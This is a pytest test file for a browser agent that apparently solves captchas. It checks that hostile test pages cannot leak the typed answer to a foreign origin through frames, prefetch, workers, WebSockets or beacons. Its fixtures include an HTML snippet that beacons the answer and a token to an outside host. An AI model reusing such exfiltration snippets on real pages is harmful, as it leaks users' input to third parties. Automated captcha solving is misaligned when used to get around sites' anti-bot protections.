"""The pages in `pages` get no document from a foreign origin, and no answer to it."""

from __future__ import annotations

import asyncio
import io
from collections.abc import Callable
from pathlib import Path
from typing import cast

import numpy as np
import pytest
from playwright.async_api import async_playwright
from playwright.sync_api import Browser, Page, sync_playwright

from capslice import Solution, new_page
from capslice.agent.browser.launch import system_browser
from capslice.agent.browser.own_browser import OwnBrowser
from capslice.agent.browser.session import own_session
from capslice.agent.browser.sync_async import result, run_synchronously
from capslice.agent.journal.attempts import Filter, attempts
from capslice.agent.page.blocked import Blocked
from capslice.agent.page.captcha_page import CaptchaPage
from capslice.agent.page.enforcement import Enforcement
from capslice.agent.page.events import PageEvents
from capslice.agent.page.sync_captcha_page import SyncCaptchaPage
from capslice.agent.rules.guard import Guard
from capslice.agent.settings import Browser as BrowserSettings
from capslice.agent.settings import Selectors, Target
from capslice.errors import OriginNotAllowed
from capslice.training.pictures import EllipseCaptcha
from tests.agent.conftest import Answer, Site
from tests.agent.hostile.conftest import DATAGRAM, PAGES, Attack
from tests.conftest import in_a_thread

Start = Callable[..., Site]

FETCHED_AHEAD = ("prefetch", "prerender")
AT_THE_END = ("frame_at_the_end", "post_into_a_frame", "many_frames")
# Pages that send something elsewhere: on their own, or as soon as an answer is typed or sent.
ACTS = ("acts", "answer_in_an_address", "characters_as_typed", "characters_at_the_click")
# See test_commands.py.
BUSY = ("busy_when_loaded", "busy_when_sent", "busy_when_typed")
NOISY = ("floods_the_console", "long_error")


def test_every_page_is_tried() -> None:
    assert {page.stem for page in PAGES.iterdir()} == {
        *(*FETCHED_AHEAD, *AT_THE_END, *ACTS, *BUSY, *NOISY),
        "peers",
    }


@pytest.mark.parametrize("name", [*FETCHED_AHEAD, *AT_THE_END])
def test_nothing_leaves_a_page_of_our_own(name: str, attack: Attack, tmp_path: Path) -> None:
    target, there = attack(name)

    def visit() -> None:
        with OwnBrowser(BrowserSettings()) as own:
            page = own.new_page()
            with SyncCaptchaPage(page, target, 10) as captcha_page:
                captcha_page.open()
                page.wait_for_timeout(200)
                if name in FETCHED_AHEAD:
                    page.click("#go")
                    page.wait_for_timeout(200)
            page.screenshot(path=tmp_path / "end.png")
            page.wait_for_timeout(100)

    in_a_thread(visit)
    assert there.log == []


def refused(name: str, there: Site) -> str:
    """What the lines about refused requests have, as soon as the page has tried its ways."""
    return f"WebSocket {there.url.replace('http', 'ws')}x" if name == "acts" else there.url


async def act(page: Page, target: Target, expected: str) -> CaptchaPage:
    """Open the page, answer, wait until the expected was refused, and leave."""
    captcha_page = CaptchaPage(page, target, 10)
    await captcha_page.attach()
    await captcha_page.open()
    await captcha_page.picture()
    await captcha_page.type_answer("526328")
    await captcha_page.submit()
    for _ in range(100):
        await result(page.wait_for_timeout(300))  # time for the other ways of the page
        if any(expected in line for line in captcha_page.events.blocked.lines):
            break
    await captcha_page.open()
    return captcha_page


@pytest.mark.parametrize("name", ACTS)
def test_nothing_is_sent_elsewhere(name: str, attack: Attack) -> None:
    target, there = attack(name)
    expected = refused(name, there)

    def visit() -> Blocked:
        with OwnBrowser(BrowserSettings()) as own:
            return run_synchronously(act(own.new_page(), target, expected)).events.blocked

    blocked = in_a_thread(visit)
    assert there.log == []
    assert any(there.url in line for line in blocked.lines)
    assert set(blocked.sent_away) == (
        {there.url.rstrip("/")} if name == "answer_in_an_address" else set()
    )
    if name == "acts":
        assert expected in blocked.lines


@pytest.mark.parametrize("name", ACTS)
def test_nothing_is_sent_from_a_callers_page(name: str, attack: Attack, browser: Browser) -> None:
    target, there = attack(name)
    page = new_page(browser)
    captcha_page = run_synchronously(act(page, target, refused(name, there)))
    assert there.log == []
    run_synchronously(captcha_page.detach())
    # The page is the caller's again.
    page.evaluate("url => fetch(url, {method: 'POST', mode: 'no-cors'})", there.url + "y")
    assert "POST /y" in there.log
    page.context.close()


@pytest.mark.parametrize("name", ACTS)
def test_nothing_is_sent_with_the_asynchronous_api(name: str, attack: Attack) -> None:
    target, there = attack(name)

    async def visit() -> None:
        async with async_playwright() as playwright:
            browser = await playwright.chromium.launch(executable_path=system_browser())
            page = cast(Page, await browser.new_page())
            await act(page, target, refused(name, there))
            await result(page.context.close())

    in_a_thread(asyncio.run, visit())
    # This browser was not started by capslice, so that its workers have WebTransport.
    assert {*there.log} <= {DATAGRAM}


@pytest.mark.parametrize("name", ACTS)
def test_nothing_is_sent_in_other_browsers(name: str, attack: Attack, browser: Browser) -> None:
    """Like Firefox and WebKit, where Playwright intercepts the requests."""
    target, there = attack(name)
    page = own_session(browser, BrowserSettings()).new_page()
    guard = Guard(target.allowed_origins)
    events = PageEvents(page, guard, page.locator(":root"), Selectors(), ())
    enforcement = Enforcement(page, guard, events)
    run_synchronously(enforcement.start(by_routes=True))
    # These browsers do not intercept what a worker does that has a file or several pages.
    html = page.request.get(target.url).text().splitlines()
    known = [line for line in html if "SharedWorker" not in line and "/worker.js" not in line]
    page.route(
        target.url, lambda route: route.fulfill(body="\n".join(known), content_type="text/html")
    )
    page.goto(target.url)
    page.wait_for_timeout(300)
    run_synchronously(enforcement.watch_for("526328"))
    page.fill("#input", "526328")
    page.click("#submit")
    page.wait_for_timeout(300)
    page.context.close()
    assert there.log == []


def test_no_page_of_our_own_connects_to_a_peer(attack: Attack) -> None:
    target, _ = attack("peers")

    def visit() -> str | None:
        with OwnBrowser(BrowserSettings()) as own:
            page = own.new_page()
            with SyncCaptchaPage(page, target, 10) as captcha_page:
                captcha_page.open()
            return page.locator(":root").get_attribute("data-peers")

    assert in_a_thread(visit) == "0"


@pytest.mark.parametrize("name", ACTS)
def test_each_page_sends_something_without_the_guard(name: str, attack: Attack) -> None:
    """Otherwise the tests above would prove nothing."""
    target, there = attack(name)
    methods = {"POST", "GET", "OPTIONS", DATAGRAM} if name == "acts" else {"GET"}
    workers = ("Dedicated", "Shared", "Service") if name == "acts" else ()
    expected = methods | {f"POST /x?{worker}WorkerGlobalScope" for worker in workers}

    def missing() -> set[str]:
        return expected - {part for line in there.log for part in (line, line.partition(" ")[0])}

    def visit() -> None:
        with sync_playwright() as playwright:
            page = playwright.chromium.launch(executable_path=system_browser()).new_page()
            page.goto(target.url)
            page.fill("#input", "526328")
            page.click("#submit")
            for _ in range(100):
                if missing():
                    page.wait_for_timeout(300)

    in_a_thread(visit)
    assert not missing()


KINDS = '<img src="{there}i"><link rel=stylesheet href="{there}s"><script src="{there}j"></script>'
READ = "<input id=input><script>fetch('{there}f', {{mode: 'no-cors'}}).catch(() => 0)</script>"


@pytest.mark.parametrize(
    ("subresources", "expected"), [("passive", "ijs"), ("all", "fijs"), ("none", "")]
)
def test_what_a_page_may_load_from_elsewhere(
    subresources: str, expected: str, site: Start, visit: Callable[..., SyncCaptchaPage]
) -> None:
    there = site({})
    here = site({"/": Answer((KINDS + READ).format(there=there.url).encode())})
    origins = (here.url.rstrip("/"),)
    captcha_page = visit(here.url, allowed_origins=origins, subresources=subresources)
    captcha_page.open()
    captcha_page.page.wait_for_load_state("networkidle")
    assert "".join(sorted(line[-1] for line in there.log)) == expected


@pytest.mark.parametrize("name", FETCHED_AHEAD)
def test_nothing_is_typed_into_a_document_fetched_ahead(name: str, attack: Attack) -> None:
    """In a browser that capslice did not start, and that fetches documents ahead."""
    target, there = attack(name)

    def visit() -> str:
        with sync_playwright() as playwright:
            page = playwright.chromium.launch(executable_path=system_browser()).new_page()
            with SyncCaptchaPage(page, target, 10) as captcha_page:
                captcha_page.open()
                page.wait_for_timeout(300)
                page.click("#go")
                page.wait_for_url(there.url + "x")
                with pytest.raises(OriginNotAllowed):
                    captcha_page.type_answer("secret")
            return page.input_value("#input")

    assert in_a_thread(visit) == ""
    assert there.log == ["GET /x"]


def test_held_requests_of_a_callers_page_are_refused(browser: Browser, attack: Attack) -> None:
    target, there = attack("frame_at_the_end")
    page = new_page(browser)
    with SyncCaptchaPage(page, target, 10) as captcha_page:
        captcha_page.open()
    page.wait_for_timeout(100)
    page.context.close()
    assert there.log == []


BEACON = """<img id=captcha src=/p><input id=answer><button id=submit>go</button><script>
submit.onclick = () => { navigator.sendBeacon("{there}?token=1", answer.value);
    document.body.insertAdjacentHTML("beforeend", "<p id=success>right</p>") }</script>"""


def test_the_journal_says_what_was_blocked(
    site: Start, captcha: EllipseCaptcha, solve_at: Callable[..., Solution], tmp_path: Path
) -> None:
    png = io.BytesIO()
    captcha.draw("526328", np.random.default_rng(1)).save(png, "PNG")
    there = site({})
    page = Answer(BEACON.replace("{there}", there.url).encode())
    here = site({"/": page, "/p": Answer(png.getvalue(), kind="image/png")})
    target = {"allowed_origins": (here.url.rstrip("/"),), "selectors": {"refresh": ""}}
    path = tmp_path / "journal"
    assert solve_at(here.url, target=target, journal={"path": path}).solved
    (attempt,) = attempts(path, Filter())
    assert attempt["blocked"] == [f"POST {there.url}?token=*"]
    assert there.log == []
